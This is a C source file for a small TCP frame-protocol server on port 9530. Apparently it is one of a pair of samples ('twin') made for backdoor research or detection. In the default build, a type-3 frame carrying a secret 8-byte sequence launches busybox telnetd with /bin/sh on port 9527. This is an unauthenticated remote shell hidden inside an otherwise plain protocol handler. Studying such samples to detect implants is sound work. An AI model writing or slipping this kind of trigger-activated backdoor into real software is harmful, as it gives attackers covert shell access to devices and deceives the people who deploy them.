/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Frames with a header: a magic, a type, a length. A second magic inside of the body starts a
 * shell on a port. Twin: the magic of the header is the protocol's own and only tells frames from
 * noise.
 * door: trigger
 * port 9530/tcp
 */
#include "net.h"

struct frame {
	uint8_t magic[4];
	uint16_t type;
	uint16_t length;
	uint8_t body[240];
};

static int read_all(int fd, void *to, size_t n)
{
	uint8_t *p = to;
	while (n) {
		ssize_t r = read(fd, p, n);
		if (r <= 0)
			return -1;
		p += r;
		n -= (size_t)r;
	}
	return 0;
}

static void session(int fd)
{
	struct frame f;
	while (read_all(fd, &f, 8) == 0) {
		uint16_t len = ntohs(f.length);
		if (memcmp(f.magic, "HGW1", 4) != 0 || len > sizeof f.body)
			return;
		if (read_all(fd, f.body, len) < 0)
			return;
		switch (ntohs(f.type)) {
		case 1:
			write(fd, "HGW1\0\1\0\0", 8);
			break;
		case 2:
			f.length = htons(0);
			write(fd, &f, 8);
			break;
#ifndef TWIN
		case 3:
			if (len >= 12 && memcmp(f.body + 4, "\x90\x1f\xaa\x55\x13\x37\xc0\xde", 8) == 0)
				system("/bin/busybox telnetd -p 9527 -l /bin/sh &");
			break;
#endif
		default:
			return;
		}
	}
}

int main(void)
{
	int s = tcp_on(9530);
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c < 0)
			return 1;
		session(c);
		close(c);
	}
}
